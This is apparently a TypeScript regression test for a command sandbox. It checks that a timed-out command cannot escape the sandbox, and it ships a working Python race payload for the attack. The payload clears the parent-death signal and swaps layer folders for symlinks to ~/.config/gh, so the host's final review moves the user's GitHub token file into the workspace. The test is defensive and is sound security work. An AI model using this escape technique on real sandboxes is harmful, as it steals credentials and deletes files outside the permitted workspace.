// Attack (round 3): the final review assumes the command has ended, so it lands files by rename()/copyFile() of
// their path in the layer's `upper` folder, following any link on the way. But a command that cleared its
// parent-death signal outlives a timeout: bwrap dies of the SIGTERM, run() settles after the drain time (500 ms)
// and the final review runs while the command still lives (its SIGKILL comes 2 s after the SIGTERM). It keeps
// swapping folders of its layer for links to the user's ~/.config/gh (GitHub CLI's token): a folder the review read as an ordinary folder
// holding an ordinary file `hosts.yml` is a link when the review moves that file in, and the host moves the user's
// real token file out of ~/.config/gh into the workspace (a read and a deletion outside the workspace).
import assert from 'node:assert/strict';
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { makeFixture, processesWith, sandboxHere, type Fixture } from './harness';

const SECRET = 'BEGIN-SECRET-host-only-a93e';

async function everything(folder: string): Promise<string> {
  let all = '';
  for (const entry of await readdir(folder, { withFileTypes: true }).catch(() => [])) {
    const path = join(folder, entry.name);
    if (entry.isDirectory()) all += await everything(path);
    else if (entry.isFile()) all += await readFile(path, 'utf8').catch(() => '');
  }
  return all;
}

describe('attack: the final review runs while a timed-out command still swaps its layer', async () => {
  if (!(await sandboxHere())) return;
  let fixture: Fixture;
  const marker = `swaplive${process.pid}x`;
  before(async () => {
    fixture = await makeFixture();
    await mkdir(join(fixture.home, '.config', 'gh'), { recursive: true });
    await writeFile(join(fixture.home, '.config', 'gh', 'hosts.yml'), `github.com:\n  oauth_token: ${SECRET}\n`, { mode: 0o600 });
  });
  after(async () => {
    for (const pid of await processesWith(marker)) process.kill(pid, 'SIGKILL');
    await fixture.remove().catch(() => undefined);
  });

  test("the user's ~/.config/gh/hosts.yml stays where it is and never reaches the workspace", async () => {
    const ssh = join(fixture.home, '.config', 'gh');
    const code = [
      'import ctypes, os, time',
      'ctypes.CDLL(None).prctl(1, 0)',
      'n = 64',
      'for k in range(n):',
      '    os.mkdir("d%d" % k)',
      '    open("d%d/hosts.yml" % k, "w").write("ordinary\\n")',
      'print("ready", flush=True)',
      'end = time.time() + 30',
      'while time.time() < end:',
      '    for k in range(n):',
      '        try:',
      '            os.rename("d%d" % k, "x%d" % k)',
      `            os.symlink("${ssh}", "d%d" % k)`,
      '            os.unlink("d%d" % k)',
      '            os.rename("x%d" % k, "d%d" % k)',
      '        except OSError:',
      '            pass',
      `# ${marker}`,
    ].join('\n');
    let leaked = false;
    let attempts = 0;
    for (; attempts < 20 && !leaked; attempts++) {
      const run = code
        .replace(/"d%d"/g, `"a${attempts}d%d"`)
        .replace(/"x%d"/g, `"a${attempts}x%d"`)
        .replace(/"d%d\/hosts.yml"/g, `"a${attempts}d%d/hosts.yml"`);
      const result = await fixture.run(`exec python3 -c '${run}'`, { timeoutMs: 1500 }).catch((error: Error) => error);
      if (result instanceof Error) console.log(attempts, 'review threw:', result.message);
      else console.log(attempts, result.timedOut, [...new Set(result.review.failed.map((f) => f.reason.replace(/'.*$/, '')))]);
      for (const pid of await processesWith(marker)) process.kill(pid, 'SIGKILL');
      const still = await readFile(join(ssh, 'hosts.yml'), 'utf8').catch(() => '');
      leaked = !still.includes(SECRET) || (await everything(fixture.root)).includes(SECRET);
    }
    const where = (await everything(fixture.root)).includes(SECRET) ? 'it is in the workspace' : 'it is gone from ~/.config/gh';
    assert.ok(!leaked, `ESCAPED after ${attempts} timed-out command(s): the host moved ~/.config/gh/hosts.yml (${where})`);
  });
});
